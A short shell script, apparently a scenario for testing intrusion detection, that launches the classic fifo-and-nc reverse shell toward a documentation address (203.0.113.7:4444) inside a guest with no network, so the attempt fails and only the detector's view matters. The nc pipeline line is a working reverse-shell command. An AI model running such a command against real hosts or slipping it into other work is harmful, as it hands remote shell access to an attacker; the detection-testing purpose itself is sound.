#!/bin/sh
# The classic fifo reverse shell: an interactive shell whose input and output go through nc to
# 203.0.113.7:4444 (TEST-NET-3). The guest has no network, so the connect fails at once and the
# pipeline falls apart; the attempt is what a detector sees. timeout bounds it in any case.
. /opt/scenarios/lib.sh
rm -f /tmp/f
mkfifo /tmp/f
timeout 10 sh -c 'cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f'
echo "pipeline ended with status $?"
rm -f /tmp/f
# busybox timeout's watcher notices within a second that the pipeline is gone; leave nothing behind.
watcher_gone() { ! ps | grep -q '[t]imeout 10 sh -c'; }
wait_for 30 watcher_gone
